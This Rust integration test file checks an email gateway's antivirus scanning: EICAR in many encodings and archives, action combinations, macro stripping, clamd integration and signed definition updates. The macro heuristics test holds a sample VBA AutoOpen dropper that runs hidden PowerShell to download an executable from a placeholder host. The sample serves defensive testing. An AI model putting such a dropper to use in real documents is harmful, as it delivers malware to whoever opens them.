//! Virus scanning through SMTP with a real downstream (SPEC §6): EICAR in
//! every encoding and container, every combination of the antivirus
//! actions, Office macro repair, the scan policy, outbreak alerts, a real
//! clamd in the chain, and definitions updates on a running gateway.

mod common;
mod corpus;

use common::{Gateway, Sink, require, submit, test_dir, wait_for};
use corpus::{Mail, delivered_anywhere, delivered_names, files};
use std::io::{Cursor, Read};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

const WAIT: Duration = Duration::from_secs(30);
/// How long to wait before concluding a message was not delivered.
const QUIET: Duration = Duration::from_secs(3);
const REMOVED: &str = "VIRUS-REMOVED";

/// The EICAR test file, assembled at run time so this source file is not
/// itself flagged by a virus scanner.
fn eicar() -> Vec<u8> {
    [b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR".as_slice(), b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat()
}

struct Setup {
    _dir: tempfile::TempDir,
    sink: Sink,
    gw: Gateway,
}

/// A gateway relaying example.com to a sink, with `antivirus` (TOML lines
/// for `[antivirus]`) and `extra` (further sections) in its config.
fn setup(antivirus: &str, extra: &str) -> Setup {
    let dir = test_dir();
    let sink = Sink::start(dir.path(), &[]);
    let gw = Gateway::start(dir.path(), "", &config(sink.port, antivirus, extra));
    Setup { _dir: dir, sink, gw }
}

fn config(sink_port: u16, antivirus: &str, extra: &str) -> String {
    format!(
        "[blocking]\nunprocessable = \"hold\"\n\
         [[routing.local]]\nname = \"example.com\"\nrelay = \"127.0.0.1:{sink_port}\"\n\
         [antivirus]\nreplacement_text = \"{REMOVED}\"\n{antivirus}\n{extra}"
    )
}

impl Setup {
    fn send(&self, mail: &Mail) {
        let reply = submit(self.gw.port, "a@sender.test", &["b@example.com"], &mail.build());
        assert!(reply.starts_with("250"), "{reply}");
    }

    /// The delivered message with exactly this subject, waiting for it.
    fn find(&self, subject: &str, timeout: Duration) -> Option<Vec<u8>> {
        let line = format!("Subject: {subject}");
        let mut found = None;
        wait_for(timeout, || {
            found = self.sink.messages().into_iter().find(|m| m.lines().any(|l| l.trim_end() == line));
            found.is_some()
        });
        found.map(String::into_bytes)
    }

    fn delivered(&self, subject: &str) -> Vec<u8> {
        self.find(subject, WAIT).unwrap_or_else(|| panic!("{subject:?} not delivered; log:\n{}", self.gw.log()))
    }

    fn not_delivered(&self, subject: &str) -> bool {
        self.find(subject, QUIET).is_none()
    }
}

/// True if `marker` reaches the recipient in any file, including inside
/// messages forwarded in archives.
fn reaches_recipient(raw: &[u8], marker: &[u8]) -> bool {
    let eml = files(raw).into_iter().filter(|(n, _)| n.ends_with(".eml"));
    delivered_anywhere(raw, marker) || eml.into_iter().any(|(_, m)| delivered_anywhere(&m, marker))
}

fn header(raw: &[u8], name: &str) -> Option<String> {
    let text = String::from_utf8_lossy(raw);
    let prefix = format!("{name}: ");
    text.lines().find_map(|l| l.strip_prefix(&prefix)).map(str::to_string)
}

fn quoted_printable_eicar() -> String {
    let text = String::from_utf8(eicar()).unwrap().replace('$', "=24");
    let (head, tail) = text.split_at(30);
    format!(
        "Content-Type: application/octet-stream; name=\"qp.com\"\r\n\
         Content-Disposition: attachment; filename=\"qp.com\"\r\n\
         Content-Transfer-Encoding: quoted-printable\r\n\r\n{head}=\r\n{tail}\r\n"
    )
}

fn forwarded_message_with(attachment: &[u8]) -> Vec<u8> {
    let mut inner = Mail::new("forwarded").attach("payload.com", attachment).build();
    inner.extend_from_slice(b"\r\n");
    inner
}

#[test]
fn eicar_is_found_in_every_encoding_and_container() {
    let s = setup("heuristic_level = \"off\"", "");
    let e = eicar();
    let clean = b"clean-member-kept".as_slice();
    let text_part = |body: Vec<u8>| {
        format!("Content-Type: text/plain; charset=us-ascii\r\n\r\n{}\r\n", String::from_utf8(body).unwrap())
    };
    let cases: Vec<(&str, Mail, Option<&str>)> = vec![
        ("base64 attachment", Mail::new("base64 attachment").attach("eicar.com", &e), None),
        ("quoted-printable", Mail::new("quoted-printable").raw_part(&quoted_printable_eicar()), None),
        ("uuencoded", Mail::new("uuencoded").raw_part(&text_part(corpus::uuencoded_text("eicar.com", &e))), None),
        ("binhex", Mail::new("binhex").raw_part(&text_part(corpus::binhex_text("eicar.com", &e))), None),
        ("in text body", Mail::new("in text body").raw_part(&text_part(e.clone())), None),
        (
            "in zip",
            Mail::new("in zip").attach("files.zip", &corpus::zip(&[("clean.txt", clean), ("eicar.com", &e)])),
            Some("files.zip/clean.txt"),
        ),
        (
            "zip in zip",
            Mail::new("zip in zip").attach(
                "outer.zip",
                &corpus::zip(&[("clean.txt", clean), ("inner.zip", &corpus::zip(&[("eicar.com", &e)]))]),
            ),
            Some("outer.zip/clean.txt"),
        ),
        (
            "rfc822 in zip",
            Mail::new("rfc822 in zip")
                .attach("mail.zip", &corpus::zip(&[("clean.txt", clean), ("fwd.eml", &forwarded_message_with(&e))])),
            Some("mail.zip/clean.txt"),
        ),
        (
            "in tar.gz",
            Mail::new("in tar.gz").attach("files.tar.gz", &corpus::tar_gz(&[("clean.txt", clean), ("eicar.com", &e)])),
            Some("files.tar.gz/clean.txt"),
        ),
        ("in 7z", Mail::new("in 7z").attach("files.7z", &corpus::seven_zip(&[("eicar.com", &e)])), None),
    ];
    for (_, mail, _) in &cases {
        s.send(mail);
    }
    for (subject, _, kept) in &cases {
        let got = s.delivered(subject);
        assert!(!reaches_recipient(&got, &e), "{subject}: EICAR got through:\n{}", String::from_utf8_lossy(&got));
        let summary = header(&got, "X-MXGuard-Virus").unwrap_or_else(|| panic!("{subject}: no X-MXGuard-Virus"));
        assert!(summary.contains("Eicar-Test-Signature"), "{subject}: {summary}");
        if let Some(kept) = kept {
            let names = delivered_names(&got);
            assert!(names.iter().any(|n| n == kept), "{subject}: repair lost {kept}: {names:?}");
        }
    }
    let zip = s.delivered("in zip");
    let names = delivered_names(&zip);
    assert!(names.contains(&"files.zip/deleted1.txt".to_string()), "{names:?}");
    assert!(s.gw.log().contains("Eicar-Test-Signature"), "each detection is an event in the log");
}

/// What the recipient gets for one infected attachment.
#[derive(Debug, PartialEq, Clone, Copy)]
enum Outcome {
    /// The infected member was replaced by DELETEDn.TXT, the rest kept.
    Repaired,
    /// The whole attachment became the replacement text.
    Deleted,
    /// Delivered with the virus.
    Unchanged,
    /// The message was not delivered.
    Dropped,
}

fn outcome(s: &Setup, subject: &str, attachment: &str) -> Outcome {
    if s.not_delivered(subject) {
        return Outcome::Dropped;
    }
    let got = s.delivered(subject);
    let names = delivered_names(&got);
    if delivered_anywhere(&got, &eicar()) {
        Outcome::Unchanged
    } else if names.iter().any(|n| n.starts_with(&format!("{attachment}/deleted"))) {
        assert!(names.iter().any(|n| n == &format!("{attachment}/clean.txt")), "{names:?}");
        Outcome::Repaired
    } else {
        assert!(delivered_anywhere(&got, REMOVED.as_bytes()), "{subject}: no replacement text: {names:?}");
        assert!(!names.iter().any(|n| n.starts_with(attachment)), "{subject}: {names:?}");
        Outcome::Deleted
    }
}

#[test]
fn without_its_directory_the_default_definitions_are_the_built_in_ones() {
    let mut s = setup("heuristic_level = \"off\"", "");
    s.gw.kill9();
    std::fs::remove_file(s.gw.root.join("etc/defs")).unwrap();
    s.gw.spawn();
    s.send(&Mail::new("started elsewhere").attach("eicar.com", &eicar()));
    let got = s.delivered("started elsewhere");
    assert!(!delivered_anywhere(&got, &eicar()), "EICAR is still found; log:\n{}", s.gw.log());
    assert!(s.gw.log().contains("using the definitions built into mxguard"));
}

#[test]
fn every_combination_of_detect_unrepairable_and_not_removed() {
    use Outcome::*;
    // (on_detect, on_unrepairable, on_not_removed) → (zip with EICAR and a
    // clean member: repairable; EICAR as the attachment itself: not).
    let table = [
        (("repair", "delete", "log"), (Repaired, Deleted)),
        (("repair", "delete", "drop"), (Repaired, Deleted)),
        (("repair", "log", "log"), (Repaired, Unchanged)),
        (("repair", "log", "drop"), (Repaired, Dropped)),
        (("delete", "delete", "log"), (Deleted, Deleted)),
        (("delete", "delete", "drop"), (Deleted, Deleted)),
        (("delete", "log", "log"), (Deleted, Deleted)),
        (("delete", "log", "drop"), (Deleted, Deleted)),
        (("log", "delete", "log"), (Unchanged, Unchanged)),
        (("log", "delete", "drop"), (Dropped, Dropped)),
        (("log", "log", "log"), (Unchanged, Unchanged)),
        (("log", "log", "drop"), (Dropped, Dropped)),
    ];
    let e = eicar();
    let zip = corpus::zip(&[("clean.txt", b"clean".as_slice()), ("eicar.com", &e)]);
    std::thread::scope(|scope| {
        for ((detect, unrepairable, not_removed), expected) in table {
            let (e, zip) = (&e, &zip);
            scope.spawn(move || {
                let s = setup(
                    &format!(
                        "heuristic_level = \"off\"\non_detect = \"{detect}\"\n\
                         on_unrepairable = \"{unrepairable}\"\non_not_removed = \"{not_removed}\""
                    ),
                    "",
                );
                s.send(&Mail::new("repairable").attach("files.zip", zip));
                s.send(&Mail::new("unrepairable").attach("eicar.com", e));
                let got = (outcome(&s, "repairable", "files.zip"), outcome(&s, "unrepairable", "eicar.com"));
                assert_eq!(got, expected, "{detect} / {unrepairable} / {not_removed}");
            });
        }
    });
}

/// A signature database with one `.ndb` body signature for `marker`.
fn write_defs(dir: &Path, name: &str, marker: &[u8]) {
    std::fs::create_dir_all(dir).unwrap();
    let hex: String = marker.iter().map(|b| format!("{b:02x}")).collect();
    std::fs::write(dir.join("test.ndb"), format!("{name}:0:*:{hex}\n")).unwrap();
}

fn unzip(data: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut z = zip::ZipArchive::new(Cursor::new(data)).expect("a valid zip");
    (0..z.len())
        .map(|i| {
            let mut f = z.by_index(i).unwrap();
            let mut content = Vec::new();
            f.read_to_end(&mut content).expect("every member reads back with a good CRC");
            (f.name().unwrap().to_string(), content)
        })
        .collect()
}

/// The delivered `report.docm` of `got` has lost its VBA project and
/// nothing else, and opens as a plain Word document.
fn assert_macros_removed(got: &[u8], detection: &str) {
    assert!(header(got, "X-MXGuard-Virus").is_some_and(|h| h.contains(detection)), "{detection}");
    let (_, doc) = files(got).into_iter().find(|(n, _)| n == "report.docm").expect("the document is kept");
    let members = unzip(&doc);
    let names: Vec<&str> = members.iter().map(|(n, _)| n.as_str()).collect();
    assert!(!names.iter().any(|n| n.to_lowercase().contains("vba")), "the VBA project is gone: {names:?}");
    let part = |name: &str| {
        let (_, data) = members.iter().find(|(n, _)| n == name).unwrap_or_else(|| panic!("{name} kept: {names:?}"));
        String::from_utf8(data.clone()).unwrap()
    };
    let types = part("[Content_Types].xml");
    assert!(!types.contains("vbaProject") && !types.contains("vbaData") && !types.contains("macroEnabled"), "{types}");
    assert!(types.contains("wordprocessingml.document.main+xml"), "the body is a plain document now: {types}");
    assert!(!part("word/_rels/document.xml.rels").contains("vbaProject"));
    assert!(part("word/document.xml").contains("quarterly report text"), "the content is kept");
    assert!(part("_rels/.rels").contains("word/document.xml"));
}

#[test]
fn an_office_document_infected_in_its_macros_loses_only_its_vba_project() {
    let dir = test_dir();
    let defs = dir.path().join("own-defs");
    write_defs(&defs, "Test.Macro.Marker", b"MacroMarker-7f3a");
    let sink = Sink::start(dir.path(), &[]);
    let av = format!("heuristic_level = \"medium\"\ndefs_dir = \"{}\"", defs.display());
    let gw = Gateway::start(dir.path(), "", &config(sink.port, &av, ""));
    let s = Setup { _dir: dir, sink, gw };
    let by_signature =
        corpus::docm(b"Attribute VB_Name = \"ThisDocument\"\r\nSub Report()\r\n' MacroMarker-7f3a\r\nEnd Sub\r\n");
    s.send(&Mail::new("macro signature").attach("report.docm", &by_signature));
    let dropper = b"Sub AutoOpen()\r\n    Shell \"powershell -w hidden -c iwr http://x.test/a.exe\"\r\nEnd Sub\r\n";
    s.send(&Mail::new("macro heuristics").attach("report.docm", &corpus::docm(dropper)));
    s.send(&Mail::new("harmless macro").attach("report.docm", &corpus::docm(b"Sub Total()\r\nEnd Sub\r\n")));

    assert_macros_removed(&s.delivered("macro signature"), "Test.Macro.Marker");
    assert_macros_removed(&s.delivered("macro heuristics"), "Heuristic.MacroAutoRun");
    let harmless = s.delivered("harmless macro");
    assert!(header(&harmless, "X-MXGuard-Virus").is_none());
    assert!(delivered_names(&harmless).contains(&"report.docm/word/vbaproject.bin".to_string()), "left alone");
}

#[test]
fn the_scan_policy_applies_to_container_members_and_excluded_containers_stay_shut() {
    let e = eicar();
    let exclude = setup("heuristic_level = \"off\"\nscan_policy = \"exclude\"\nexclude = [\".zip\"]", "");
    exclude.send(&Mail::new("excluded zip").attach("files.zip", &corpus::zip(&[("eicar.com", &e)])));
    exclude.send(&Mail::new("not excluded").attach("eicar.com", &e));
    assert!(delivered_anywhere(&exclude.delivered("excluded zip"), &e), "an excluded container is not opened");
    assert!(!delivered_anywhere(&exclude.delivered("not excluded"), &e));

    let include = setup("heuristic_level = \"off\"\nscan_policy = \"include\"\ninclude = [\".com\"]", "");
    include.send(&Mail::new("included member").attach("files.zip", &corpus::zip(&[("eicar.com", &e)])));
    include.send(&Mail::new("not included").attach("eicar.txt", &e));
    assert!(!delivered_anywhere(&include.delivered("included member"), &e), "include applies to members");
    assert!(delivered_anywhere(&include.delivered("not included"), &e), "only included extensions are scanned");
}

#[test]
fn an_outbreak_is_reported_once_per_window() {
    let s = setup(
        "heuristic_level = \"off\"",
        "[antivirus.outbreak]\nenabled = true\ncount = 3\nminutes = 5\nnotify = [\"admin@example.com\"]",
    );
    let e = eicar();
    for i in 0..2 {
        s.send(&Mail::new(&format!("infected {i}")).attach("eicar.com", &e));
        s.delivered(&format!("infected {i}"));
    }
    assert!(!s.gw.log().contains("Virus outbreak [system]"), "two infected messages are below the threshold");
    for i in 2..6 {
        s.send(&Mail::new(&format!("infected {i}")).attach("eicar.com", &e));
    }
    for i in 2..6 {
        s.delivered(&format!("infected {i}"));
    }
    let alerts = s.gw.log().matches("Virus outbreak [system]").count();
    assert_eq!(alerts, 1, "one alert for the window:\n{}", s.gw.log());
    let notice = s.delivered("Virus outbreak");
    assert!(
        String::from_utf8_lossy(&notice).contains("X-Rcpt-Args: <admin@example.com>"),
        "sent to the outbreak address"
    );
}

/// A real clamd on a loopback port and a Unix socket, with a database the
/// test writes (no freshclam).
struct Clamd {
    child: Child,
    port: u16,
    socket: PathBuf,
}

impl Clamd {
    fn start(root: &Path, db: &Path) -> Clamd {
        require("clamd", "clamav-daemon");
        let port = common::free_port();
        let socket = root.join("clamd.sock");
        let conf = root.join("clamd.conf");
        std::fs::write(
            &conf,
            format!(
                "TCPSocket {port}\nTCPAddr 127.0.0.1\nLocalSocket {}\nDatabaseDirectory {}\nForeground yes\n\
                 LogFile {}\nPidFile {}\nUser root\n",
                socket.display(),
                db.display(),
                root.join("clamd.log").display(),
                root.join("clamd.pid").display()
            ),
        )
        .unwrap();
        let child = Command::new("clamd")
            .arg("-c")
            .arg(&conf)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("clamd starts");
        let up = common::wait_port(port, Duration::from_secs(90));
        assert!(up, "clamd did not listen: {}", std::fs::read_to_string(root.join("clamd.log")).unwrap_or_default());
        Clamd { child, port, socket }
    }

    fn stop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for Clamd {
    fn drop(&mut self) {
        self.stop();
    }
}

#[test]
fn a_real_clamd_scans_and_a_dead_one_holds_mail() {
    let dir = test_dir();
    let db = dir.path().join("clamdb");
    write_defs(&db, "Test.Clamd.Marker", b"clamd-marker-51c9");
    let mut clamd = Clamd::start(dir.path(), &db);
    let sink = Sink::start(dir.path(), &[]);
    let scanners = |address: &str| {
        format!("[[antivirus.scanners]]\nkind = \"clamd\"\naddress = \"{address}\"\ntimeout_seconds = 10\n")
    };
    let tcp = format!("127.0.0.1:{}", clamd.port);
    let gw = Gateway::start(dir.path(), "", &config(sink.port, "heuristic_level = \"off\"", &scanners(&tcp)));
    let mut s = Setup { _dir: dir, sink, gw };

    s.send(&Mail::new("over tcp").attach("a.bin", b"xx clamd-marker-51c9 xx").attach("ok.txt", b"fine"));
    let got = s.delivered("over tcp");
    assert!(!delivered_anywhere(&got, b"clamd-marker-51c9"), "clamd's detection removed the file");
    assert!(delivered_anywhere(&got, b"fine"), "the clean file is kept");
    assert!(header(&got, "X-MXGuard-Virus").is_some_and(|h| h.contains("Test.Clamd.Marker")));
    assert!(!delivered_anywhere(&got, &eicar()));

    let unix = clamd.socket.display().to_string();
    s.gw.reconfigure("", &config(s.sink.port, "heuristic_level = \"off\"", &scanners(&unix)));
    s.send(&Mail::new("over unix socket").attach("b.bin", b"clamd-marker-51c9"));
    assert!(!delivered_anywhere(&s.delivered("over unix socket"), b"clamd-marker-51c9"));

    clamd.stop();
    s.send(&Mail::new("clamd down").attach("c.txt", b"harmless"));
    assert!(s.not_delivered("clamd down"), "a message nobody could scan is not delivered as clean");
    assert!(wait_for(WAIT, || s.gw.queue_len("hold") > 0), "held: {}", s.gw.log());
    assert!(s.gw.log().contains("scan error"));

    s.gw.kill9();
    s.gw.spawn();
    let reported =
        wait_for(WAIT, || s.gw.log().contains(&format!("Scanner unavailable [system]; matched: clamd at {unix}")));
    assert!(reported, "the health check reports the dead clamd at start: {}", s.gw.log());
}

fn mxguard(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_mxguard")).args(args).output().unwrap()
}

#[test]
fn definitions_update_on_a_running_gateway_and_bad_packages_are_refused() {
    let dir = test_dir();
    let root = &dir.path().to_path_buf();
    let keys = root.join("keys");
    let other_keys = root.join("other-keys");
    for k in [&keys, &other_keys] {
        assert!(mxguard(&["defs", "keygen", k.to_str().unwrap()]).status.success());
    }
    let public_key = std::fs::read_to_string(keys.join("defs.pub")).unwrap();
    let build = |name: &str, key: &Path, sequence: u64, ndb: &str| -> PathBuf {
        let src = root.join(format!("{name}-src"));
        std::fs::create_dir_all(&src).unwrap();
        std::fs::write(src.join("update.ndb"), ndb).unwrap();
        let out = root.join(name);
        let seq = sequence.to_string();
        let key = key.join("defs.key");
        let args = ["defs", "build", src.to_str().unwrap(), "--key", key.to_str().unwrap()];
        let built =
            mxguard(&[&args[..], &["--sequence", &seq, "--version", name, "--out", out.to_str().unwrap()]].concat());
        assert!(built.status.success(), "{}", String::from_utf8_lossy(&built.stderr));
        out
    };
    let sig = |name: &str, marker: &str| {
        let hex: String = marker.bytes().map(|b| format!("{b:02x}")).collect();
        format!("{name}:0:*:{hex}\n")
    };
    let v1 = build("v1", &keys, 1, &sig("Update.One", "first-marker-e41"));

    // No definitions yet: nothing can be scanned, so mail is held.
    let sink = Sink::start(root, &[]);
    let defs = root.join("installed-defs");
    let av = format!("heuristic_level = \"off\"\ndefs_dir = \"{}\"", defs.display());
    let liveupdate = |source: &Path| {
        format!("[liveupdate]\nsources = [\"{}\"]\npublic_key = \"{}\"\n", source.display(), public_key.trim())
    };
    let gw = Gateway::start(root, "", &config(sink.port, &av, &liveupdate(&v1)));
    let s = Setup { _dir: dir, sink, gw };
    s.send(&Mail::new("waits for definitions").attach("a.bin", b"first-marker-e41"));
    assert!(wait_for(WAIT, || s.gw.queue_len("hold") == 1), "held for a scan error: {}", s.gw.log());

    let update_now = || {
        let out = mxguard(&["defs", "update", "--config", s.gw.config_path.to_str().unwrap()]);
        (
            out.status.success(),
            format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)),
        )
    };
    let update = |source: &Path| {
        s.gw.reconfigure("", &config(s.sink.port, &av, &liveupdate(source)));
        update_now()
    };
    let (ok, said) = update_now();
    assert!(ok && said.contains("definitions 1 of"), "{said}");
    assert!(said.contains("1 held message(s) sent to be scanned again"), "{said}");
    let got = s.delivered("waits for definitions");
    assert!(!delivered_anywhere(&got, b"first-marker-e41"), "rescanned with the new definitions");
    assert_eq!(s.gw.queue_len("hold"), 0);

    let tampered = build("tampered", &keys, 2, &sig("Update.Two", "second-marker"));
    let manifest = tampered.join("manifest.toml");
    let text = std::fs::read_to_string(&manifest).unwrap().replace("version = \"tampered\"", "version = \"tamperex\"");
    std::fs::write(&manifest, text).unwrap();
    let refusals = [
        (tampered, "signature"),
        (build("wrong-key", &other_keys, 3, &sig("Update.Three", "third-marker")), "signature"),
        (build("older", &keys, 1, &sig("Update.Old", "old-marker")), "not newer"),
        (build("bad-line", &keys, 4, "Broken.Sig:0:*:zz-not-hex\n"), "update.ndb"),
    ];
    for (i, (package, reason)) in refusals.iter().enumerate() {
        let (_, said) = update(package);
        assert!(said.contains(reason), "{}: {said}", package.display());
        let subject = format!("old set kept {i}");
        s.send(&Mail::new(&subject).attach("a.bin", b"first-marker-e41"));
        assert!(!delivered_anywhere(&s.delivered(&subject), b"first-marker-e41"), "{}", package.display());
    }
    let v5 = build("v5", &keys, 5, &sig("Update.Five", "fifth-marker-9b"));
    let (ok, said) = update(&v5);
    assert!(ok && said.contains("definitions 5 of"), "{said}");
    s.send(&Mail::new("new set").attach("a.bin", b"fifth-marker-9b"));
    assert!(!delivered_anywhere(&s.delivered("new set"), b"fifth-marker-9b"));
    assert!(s.gw.log().contains("Definitions updated"), "{}", s.gw.log());
}

/// A deterministic byte source for the generated corpus.
struct Filler(u64);

impl Filler {
    /// `len` bytes of lower-case letters and spaces, which no test
    /// signature contains, so a file matches only what is planted in it.
    fn text(&mut self, len: usize) -> Vec<u8> {
        (0..len)
            .map(|_| {
                self.0 ^= self.0 << 13;
                self.0 ^= self.0 >> 7;
                self.0 ^= self.0 << 17;
                b"abcdefghijklmnopqrstuvwxyz      "[(self.0 % 32) as usize]
            })
            .collect()
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// `PATH: NAME FOUND` / `PATH: OK` lines as path → name or "OK", with
/// ClamAV's `.UNOFFICIAL` suffix for third-party signatures taken off.
fn verdicts(output: &[u8]) -> std::collections::BTreeMap<String, String> {
    String::from_utf8_lossy(output)
        .lines()
        .filter_map(|l| {
            let (path, verdict) = l.rsplit_once(": ")?;
            let verdict = match verdict.strip_suffix(" FOUND") {
                Some(name) => name.trim_end_matches(".UNOFFICIAL").to_string(),
                None if verdict == "OK" => verdict.to_string(),
                None => return None,
            };
            Some((path.to_string(), verdict))
        })
        .collect()
}

/// A body signature under test: name, offset, hex body, bytes it must
/// match and near-miss bytes it must not.
type Planted = (&'static str, &'static str, String, Vec<u8>, Vec<u8>);

#[test]
fn mxguard_scan_and_clamscan_agree_file_by_file() {
    require("clamscan", "clamav");
    let dir = test_dir();
    let (db, corpus) = (dir.path().join("db"), dir.path().join("corpus"));
    std::fs::create_dir_all(&db).unwrap();
    std::fs::create_dir_all(&corpus).unwrap();
    let mut filler = Filler(0x9E37_79B9_7F4A_7C15);
    let mut pad = |n| filler.text(n);
    let mut ndb = String::new();
    let mut files: Vec<(String, Vec<u8>)> = Vec::new();
    let cases: Vec<Planted> = vec![
        ("T.Plain", "*", hex(b"PLAIN-SIG-01"), b"PLAIN-SIG-01".to_vec(), b"PLAIN-SIG-02".to_vec()),
        ("T.Wild", "*", format!("{}??{}", hex(b"WILD"), hex(b"CARD")), b"WILD\xffCARD".to_vec(), b"WILDCARD".to_vec()),
        (
            "T.Star",
            "*",
            format!("{}*{}", hex(b"STAR-A"), hex(b"STAR-B")),
            b"STAR-Aqq qq qqSTAR-B".to_vec(),
            b"STAR-B STAR-A".to_vec(),
        ),
        (
            "T.Range",
            "*",
            format!("{}{{2-5}}{}", hex(b"RNG-A"), hex(b"RNG-B")),
            b"RNG-Axyz RNG-B".to_vec(),
            b"RNG-Axyzxyzxyz RNG-B".to_vec(),
        ),
        (
            "T.Fixed",
            "*",
            format!("{}{{4}}{}", hex(b"FIX-A"), hex(b"FIX-B")),
            b"FIX-AabcdFIX-B".to_vec(),
            b"FIX-AabcFIX-B".to_vec(),
        ),
        (
            "T.UpTo",
            "*",
            format!("{}{{-3}}{}", hex(b"UPTO-A"), hex(b"UPTO-B")),
            b"UPTO-AabUPTO-B".to_vec(),
            b"UPTO-AabcdUPTO-B".to_vec(),
        ),
        (
            "T.AtLeast",
            "*",
            format!("{}{{5-}}{}", hex(b"MIN-A"), hex(b"MIN-B")),
            b"MIN-Aabcdefgh MIN-B".to_vec(),
            b"MIN-AabMIN-B".to_vec(),
        ),
        (
            "T.Alt",
            "*",
            format!("{}(41|42){}", hex(b"ALT-"), hex(b"-END")),
            b"ALT-B-END".to_vec(),
            b"ALT-C-END".to_vec(),
        ),
        (
            "T.Not",
            "*",
            format!("{}!(41|42){}", hex(b"NOT-"), hex(b"-END")),
            b"NOT-C-END".to_vec(),
            b"NOT-A-END".to_vec(),
        ),
        ("T.Nibble", "*", format!("{}4?{}", hex(b"NIB"), hex(b"Z")), b"NIBOZ".to_vec(), b"NIBoZ".to_vec()),
        ("T.Start", "0", hex(b"START-SIG"), b"START-SIG".to_vec(), b"START-SIG".to_vec()),
        ("T.End", "EOF-9", hex(b"TAIL-SIG!"), b"TAIL-SIG!".to_vec(), b"TAIL-SIG!".to_vec()),
        ("T.Window", "20,30", hex(b"WIN-SIG"), b"WIN-SIG".to_vec(), b"WIN-SIG".to_vec()),
    ];
    for (name, offset, body, hit, miss) in &cases {
        ndb.push_str(&format!("{name}:0:{offset}:{body}\n"));
        let (positive, negative) = match *offset {
            "0" => ([hit.clone(), pad(3000)].concat(), [pad(10), miss.clone(), pad(3000)].concat()),
            "EOF-9" => ([pad(3000), hit.clone()].concat(), [pad(3000), miss.clone(), pad(1)].concat()),
            "20,30" => ([pad(40), hit.clone(), pad(3000)].concat(), [pad(100), miss.clone(), pad(3000)].concat()),
            _ => ([pad(2000), hit.clone(), pad(2000)].concat(), [pad(2000), miss.clone(), pad(2000)].concat()),
        };
        files.push((format!("{name}.hit"), positive));
        files.push((format!("{name}.miss"), negative));
    }
    std::fs::write(db.join("test.ndb"), ndb).unwrap();

    let hashed = pad(5000);
    let sha_hashed = pad(7000);
    use sha2::Digest;
    let md5 = hex(&md5::Md5::digest(&hashed));
    std::fs::write(db.join("test.hdb"), format!("{md5}:{}:T.Hash.Md5\n", hashed.len())).unwrap();
    let sha = hex(&sha2::Sha256::digest(&sha_hashed));
    std::fs::write(db.join("test.hsb"), format!("{sha}:{}:T.Hash.Sha256\n", sha_hashed.len())).unwrap();
    files.push(("hash-md5.bin".into(), hashed.clone()));
    files.push(("hash-md5-plus-one.bin".into(), [hashed.as_slice(), b"x"].concat()));
    files.push(("hash-sha256.bin".into(), sha_hashed));
    let zipped = corpus::zip(&[("a.txt", &pad(100)), ("inner.bin", &[pad(500), b"PLAIN-SIG-01".to_vec()].concat())]);
    files.push(("archive.zip".into(), zipped));
    for i in 0..5 {
        files.push((format!("clean-{i}.txt"), pad(1000 + i * 700)));
    }
    for (name, data) in &files {
        std::fs::write(corpus.join(name), data).unwrap();
    }

    let ours = mxguard(&["scan", "--defs", db.to_str().unwrap(), corpus.to_str().unwrap()]);
    assert_eq!(ours.status.code(), Some(1), "exit 1 when something is found");
    let theirs = Command::new("clamscan").args(["--no-summary", "-r", "-d"]).arg(&db).arg(&corpus).output().unwrap();
    assert!(
        matches!(theirs.status.code(), Some(0 | 1)),
        "clamscan failed: {}",
        String::from_utf8_lossy(&theirs.stderr)
    );
    let (ours, theirs) = (verdicts(&ours.stdout), verdicts(&theirs.stdout));
    assert_eq!(ours.len(), files.len(), "one line per file: {ours:#?}");
    assert_eq!(ours, theirs, "mxguard scan and clamscan disagree");
    let found = ours.values().filter(|v| *v != "OK").count();
    assert_eq!(found, cases.len() + 3, "every planted signature and nothing else: {ours:#?}");
}

#[test]
fn mxguard_scan_exit_codes_and_messages() {
    let dir = test_dir();
    let defs = concat!(env!("CARGO_MANIFEST_DIR"), "/etc/defs");
    let clean = dir.path().join("clean");
    std::fs::create_dir_all(clean.join("sub")).unwrap();
    std::fs::write(clean.join("sub/a.txt"), "nothing here").unwrap();
    let ok = mxguard(&["scan", "--defs", defs, clean.to_str().unwrap()]);
    assert_eq!(ok.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&ok.stdout).contains("sub/a.txt: OK"), "directories are walked");

    let eml = dir.path().join("infected.eml");
    std::fs::write(&eml, Mail::new("saved").attach("x.zip", &corpus::zip(&[("e.com", &eicar())])).build()).unwrap();
    let found = mxguard(&["scan", "--defs", defs, eml.to_str().unwrap()]);
    assert_eq!(found.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&found.stdout).contains("infected.eml: Eicar-Test-Signature FOUND"));

    let missing = mxguard(&["scan", "--defs", defs, "/nonexistent/file"]);
    assert_eq!(missing.status.code(), Some(2), "errors exit 2");
    let no_defs = mxguard(&["scan", "--defs", "/nonexistent/defs", clean.to_str().unwrap()]);
    assert_eq!(no_defs.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&no_defs.stderr).contains("cannot load signatures"));
}
